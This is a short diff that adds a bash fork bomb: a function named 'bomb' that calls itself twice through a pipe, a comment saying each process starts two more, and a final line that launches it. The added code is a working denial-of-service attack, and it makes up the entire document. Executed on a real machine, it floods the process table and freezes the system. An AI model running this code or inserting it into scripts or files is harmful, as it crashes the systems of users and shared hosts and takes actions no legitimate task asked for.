@@ -1,0 +1,3 @@
+# Every process starts two that do the same.
+bomb() { bomb | bomb; }
+bomb
